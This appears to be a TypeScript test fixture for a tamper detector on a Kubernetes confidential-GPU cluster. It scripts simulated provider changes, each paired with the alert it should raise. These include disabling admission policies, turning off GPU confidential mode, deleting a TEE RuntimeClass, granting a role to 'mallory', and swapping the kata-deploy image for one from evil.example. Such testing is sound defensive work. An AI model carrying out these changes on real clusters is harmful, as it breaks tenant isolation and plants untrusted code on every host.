import type { Edit } from "./edit";
import { manager, patch, unbound } from "./edit";

export const providerEdits: readonly Edit[] = [
  {
    what: "a rule only notes",
    as: "provider",
    run: async ({ run }) =>
      void (await run(
        ...patch("validatingadmissionpolicybinding", "trustfoundry-node-cc-mode", {
          spec: { validationActions: ["Audit"] },
        }),
      )),
    told: "high ValidatingAdmissionPolicyBinding trustfoundry-node-cc-mode",
  },
  {
    what: "a rule says something else",
    as: "provider",
    run: async ({ run }) =>
      void (await run(
        ...patch("validatingadmissionpolicy", "trustfoundry-no-host-access", {
          spec: { validations: [{ expression: "true" }] },
        }),
      )),
    told: "high ValidatingAdmissionPolicy trustfoundry-no-host-access",
  },
  {
    what: "a host's GPUs leave confidential mode",
    as: "provider",
    run: async ({ run }) =>
      void (await run("label", "node", "genoa-h100-a", "nvidia.com/cc.mode=devtools", "--overwrite", ...manager)),
    told: "high Node genoa-h100-a",
  },
  {
    what: "a host passes its GPUs through no more",
    as: "provider",
    run: async ({ run }) => {
      await run(...unbound("node-workload-mode"));
      await run(...unbound("node-passthrough"));
      await run("label", "node", "genoa-plain", "trustfoundry.dev/gpu-model=B200", "--overwrite", ...manager);
    },
    told: "medium Node genoa-plain",
  },
  {
    what: "the operator's default mode",
    as: "provider",
    run: async ({ run }) => {
      await run(...unbound("cc-manager-on"));
      await run(...patch("clusterpolicy", "cluster-policy", { spec: { ccManager: { defaultMode: "off" } } }));
    },
    told: "high ClusterPolicy cluster-policy",
  },
  {
    what: "pods' overhead is counted too low",
    as: "provider",
    run: async ({ run }) => {
      await run(...unbound("runtime-class-overhead"));
      await run(...patch("runtimeclass", "kata-qemu-nvidia-gpu-snp", { overhead: { podFixed: { memory: "1Gi" } } }));
    },
    told: "medium RuntimeClass kata-qemu-nvidia-gpu-snp",
  },
  {
    what: "the class's handler starts no TEE",
    as: "provider",
    run: async ({ run }) => {
      await run(...unbound("runtime-class-handler-named"));
      await run(...unbound("runtime-class-selects-tee"));
      await run("delete", "runtimeclass", "kata-qemu-nvidia-gpu-tdx");
    },
    told: "medium RuntimeClass kata-qemu-nvidia-gpu-tdx",
  },
  {
    what: "the tenant's registries become all",
    as: "provider",
    run: async ({ run }) =>
      void (await run(
        "patch",
        "configmap",
        "acme-models",
        "-n",
        "trustfoundry-admission",
        ...manager,
        "--type=merge",
        "-p",
        '{"data":{"somebodys":"entry"}}',
      )),
    told: "high ConfigMap acme-models",
  },
  {
    what: "the tenant's quota grows",
    as: "provider",
    run: async ({ run }) =>
      void (await run(...patch("resourcequota", "tenant", { spec: { hard: { pods: "9999" } } }, "-n", "acme-models"))),
    told: "medium ResourceQuota tenant",
  },
  {
    what: "somebody may place pods for the tenant",
    as: "provider",
    run: async ({ run }) =>
      void (await run("create", "rolebinding", "helper", "-n", "acme-models", "--clusterrole=view", "--user=mallory")),
    told: "high RoleBinding helper",
  },
  {
    what: "an operator's program on every host",
    as: "provider",
    run: async ({ run }) =>
      void (await run(
        "set",
        "image",
        "-n",
        "kata-system",
        ...manager,
        "daemonset/kata-deploy",
        `*=evil.example/kata@sha256:${"0".repeat(64)}`,
      )),
    told: "high DaemonSet kata-deploy",
  },
];
